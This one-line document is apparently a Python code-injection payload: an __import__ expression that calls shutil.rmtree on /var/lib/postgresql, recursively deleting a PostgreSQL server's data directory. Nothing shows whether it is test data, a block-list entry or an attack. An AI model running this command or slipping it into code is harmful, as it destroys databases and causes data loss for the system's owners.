__import__("shutil").rmtree("/var/lib/postgresql")
